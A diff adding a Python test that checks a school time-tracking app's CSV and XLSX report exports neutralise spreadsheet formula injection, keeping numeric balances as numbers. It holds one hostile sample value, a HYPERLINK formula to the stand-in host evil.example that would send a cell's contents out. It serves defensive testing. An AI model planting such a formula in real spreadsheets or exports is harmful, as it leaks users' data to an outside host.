@@ -72,3 +72,25 @@ def test_the_employee_monthly_pdf(school: World) -> None:
                             2026, 4)
     pdf = reports.employee_month_pdf(summary)
     assert pdf.startswith(b"%PDF") and pdf.rstrip().endswith(b"%%EOF")
+
+
+def test_a_name_that_is_a_formula_stays_text_in_csv_and_xlsx(school: World) -> None:
+    """A name imported from CSV as `=HYPERLINK(...)` must not become a live formula in the
+    office's spreadsheet; the minutes (negative balances included) stay numbers."""
+    school.employees["ann"].name = '=HYPERLINK("http://evil.example/?x="&A1,"Ann")'
+    school.employees["ann"].unit = "@SUM(A1)"
+    school.session.flush()
+    table = reports.institution_report(school.session, school.users["office"], 2026, 4,
+                                       "balances")
+    book = openpyxl.load_workbook(io.BytesIO(reports.to_xlsx(table)))
+    sheet = book.active
+    assert sheet is not None
+    ann = next(r for r in sheet.iter_rows(min_row=4) if r[0].value == "ANN")
+    assert ann[1].data_type == "s"
+    assert ann[1].value == "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Ann\")"
+    assert ann[2].value == "'@SUM(A1)"
+    assert ann[5].data_type == "n" and ann[5].value == 7 * 60 + 12 - 21 * 432
+    rows = list(csv.reader(io.StringIO(reports.to_csv(table).decode("utf-8-sig"))))
+    ann_csv = next(r for r in rows if r[0] == "ANN")
+    assert ann_csv[1].startswith("'=HYPERLINK(") and ann_csv[2] == "'@SUM(A1)"
+    assert ann_csv[5] == str(7 * 60 + 12 - 21 * 432)
